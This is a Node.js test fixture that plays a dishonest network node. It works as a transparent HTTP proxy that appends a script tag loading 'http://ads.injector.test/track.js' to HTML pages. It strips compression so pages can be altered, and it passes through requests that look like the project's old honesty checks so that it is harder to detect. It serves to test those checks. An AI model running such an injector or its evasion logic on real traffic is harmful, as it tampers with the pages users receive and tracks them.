// A dishonest node's transparent HTTP proxy (the honesty checks' test, #43, #59): the node's own
// outgoing HTTP (SecureNAT's sockets) is redirected here by nftables; each request goes on to the
// origin's second port and its answer comes back with a script injected, as an ad-injecting
// volunteer or ISP would do it. A careful one, as #59 describes: it touches only HTML pages, asks
// the origin for them uncompressed so it can, and leaves alone whatever looks like Gatehop's old
// checks (an HTTP/1.0 GET, or a bare "User-Agent: Mozilla/5.0"), so only a check that asks as a
// browser asks, for a page, sees what users see.
// Usage: node injector.mjs LISTEN_PORT ORIGIN_HOST ORIGIN_PORT
import { connect, createServer } from 'node:net';

const [port, originHost, originPort] = [Number(process.argv[2]), process.argv[3], Number(process.argv[4])];
const INJECTED = '<script src="http://ads.injector.test/track.js"></script>\n';

/** Whether a request head looks like a check that may be watching (Gatehop's fingerprint before #59). */
function looksLikeACheck(head) {
  return /^GET [^\r]* HTTP\/1\.0\r\n/.test(head) || /\r\nUser-Agent: Mozilla\/5\.0\r\n/i.test(head);
}

createServer((client) => {
  client.on('error', () => {});
  let head = Buffer.alloc(0);
  client.on('data', function onHead(chunk) {
    head = Buffer.concat([head, chunk]);
    if (head.indexOf('\r\n\r\n') < 0) return;
    client.off('data', onHead);
    const text = head.toString('latin1');
    const upstream = connect(originPort, originHost);
    upstream.on('error', () => client.destroy());
    // One request per connection, closed after the answer; uncompressed, so a page can be changed.
    const request = text
      .replace(/\r\nConnection: [^\r]*/i, '')
      .replace(/\r\nAccept-Encoding: [^\r]*/i, '')
      .replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n');
    if (looksLikeACheck(text)) {
      upstream.pipe(client);
      upstream.write(request);
      return;
    }
    const parts = [];
    upstream.on('data', (c) => parts.push(c));
    upstream.on('end', () => {
      const res = Buffer.concat(parts);
      const end = res.indexOf('\r\n\r\n');
      const lines = res.subarray(0, end).toString('latin1').split('\r\n');
      if (!lines.some((l) => /^content-type:\s*text\/html/i.test(l))) return client.end(res);
      const body = Buffer.concat([res.subarray(end + 4), Buffer.from(INJECTED)]);
      const kept = lines.slice(1).filter((l) => !/^(content-length|connection|transfer-encoding):/i.test(l));
      client.end(
        Buffer.concat([
          Buffer.from(
            `${[lines[0], ...kept, `Content-Length: ${body.length}`, 'Connection: close'].join('\r\n')}\r\n\r\n`,
          ),
          body,
        ]),
      );
    });
    upstream.write(request);
  });
}).listen(port, '127.0.0.1', () => process.stdout.write('ready\n'));
